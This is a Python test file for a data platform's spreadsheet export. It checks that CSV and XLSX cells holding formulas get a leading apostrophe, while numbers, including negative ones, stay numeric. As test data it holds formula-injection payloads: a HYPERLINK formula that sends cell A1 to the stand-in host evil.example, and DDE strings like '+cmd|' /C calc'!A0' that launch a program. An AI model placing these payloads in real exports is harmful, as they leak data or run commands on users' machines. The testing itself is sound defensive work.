"""Formula injection: every CSV and XLSX the platform writes shows ``=HYPERLINK(…)`` as text
(with a leading apostrophe), while numbers — negative ones included — stay numbers."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import duckdb
import pytest
from openpyxl import Workbook, load_workbook

from gongxin import formulas
from gongxin.catalog.resources import entries, write_xlsx
from gongxin.opendata import downloads
from tests.intake.helpers import catalog

LINK = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        (LINK, "'" + LINK),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-12.5", "-12.5"),  # a plain number cannot run: negative amounts stay usable
        ("+86", "+86"),
        ("1.5e-3", "1.5e-3"),
        ("罚款 = 5 万元", "罚款 = 5 万元"),
        ("", ""),
        (-5, -5),
        (Decimal("-1.5"), Decimal("-1.5")),
        (None, None),
    ],
)
def test_neutralise(value: object, safe: object) -> None:
    assert formulas.neutralise(value) == safe


def test_csv_cells_keep_numbers_as_numbers() -> None:
    assert formulas.csv_row([-5, Decimal("-1.50"), None, LINK]) == ["-5", "-1.50", "", "'" + LINK]


def test_the_duckdb_expression_agrees_with_python() -> None:
    values = [LINK, "+1", "-1", "-1+1", "@x", "\tx", "\rx", "a=b", "", "-", ".5", "-.5e3"]
    db = duckdb.connect()
    try:
        got = [
            db.execute(f"SELECT {formulas.duckdb_text('v')} FROM (SELECT ? AS v)", [v]).fetchone()
            for v in values
        ]
    finally:
        db.close()
    assert [g[0] for g in got if g] == [formulas.neutralise(v) for v in values]


def test_xlsx_cells_are_text_and_numbers_stay_numbers(tmp_path: Path) -> None:
    book = Workbook(write_only=True)
    sheet = book.create_sheet("s")
    sheet.append(formulas.xlsx_row(sheet, [LINK, -5, Decimal("-1.5"), "-7"]))
    book.save(tmp_path / "x.xlsx")
    cells = next(load_workbook(tmp_path / "x.xlsx").worksheets[0].iter_rows())
    assert [(c.value, c.data_type) for c in cells] == [
        ("'" + LINK, "s"), (-5, "n"), (-1.5, "n"), ("-7", "s"),
    ]  # fmt: skip


def test_open_data_csv_neutralises_formulas() -> None:
    spec = catalog().get("penalty")
    row = {
        "CF_WSH": LINK,
        "CF_SY": "@SUM(A1)",
        "CF_NR_FK": "-1.500000",
        "CF_CFLB": ["=1+1", "罚款"],
    }
    text = b"".join(downloads.csv_chunks(iter([row]), spec)).decode("utf-8-sig")
    header, values = list(csv.reader(io.StringIO(text)))
    shown = dict(zip(header, values, strict=True))
    names = {f.code: f.name for f in spec.fields}
    assert shown[names["CF_WSH"]] == "'" + LINK
    assert shown[names["CF_SY"]] == "'@SUM(A1)"
    assert shown[names["CF_NR_FK"]] == "-1.500000"
    assert shown[names["CF_CFLB"]] == "'=1+1;罚款"


def test_catalog_export_neutralises_formulas(tmp_path: Path) -> None:
    found = [replace(entries(catalog())[0], name=LINK, abstract="+1+1")]
    book = load_workbook(write_xlsx(found, tmp_path / "catalog.xlsx"))
    cells = [c for row in book.worksheets[0].iter_rows() for c in row]
    assert "f" not in {c.data_type for c in cells}
    assert "'" + LINK in [c.value for c in cells] and "'+1+1" in [c.value for c in cells]
